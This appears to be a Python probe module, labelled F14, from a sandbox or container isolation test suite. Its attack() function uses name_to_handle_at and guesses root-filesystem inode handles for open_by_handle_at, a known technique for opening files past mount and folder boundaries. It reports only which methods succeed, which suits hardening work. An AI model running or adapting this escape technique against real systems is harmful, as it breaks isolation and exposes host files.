"""F14: opens files by the handles that the kernel gives them, past every folder on the way."""

import ctypes
import errno
import os

import world

libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = (("size", ctypes.c_uint), ("type", ctypes.c_int), ("bytes", ctypes.c_char * 128))


def quick():
    return 7


def handle_of(path):
    handle, mount = Handle(128, 0, b""), ctypes.c_int()
    return libc.name_to_handle_at(-100, path.encode(), ctypes.byref(handle), ctypes.byref(mount), 0)


def guessed():
    """The root of a file system has inode 2 (or 1, 128) in most: its handle can be guessed."""
    for inode in (1, 2, 128):
        handle = Handle(8, 1, inode.to_bytes(4, "little"))
        if libc.open_by_handle_at(os.open(__file__, os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY) != -1:
            return 0
        if ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS):
            return 0  # it got as far as looking for the file
    return -1


def attack():
    done = []
    for name, way in {
        "handle": lambda: handle_of(world.file),
        "handle of its own": lambda: handle_of(__file__),
        "guessed": guessed,
    }.items():
        if way() != -1:
            done.append(name)
    return done
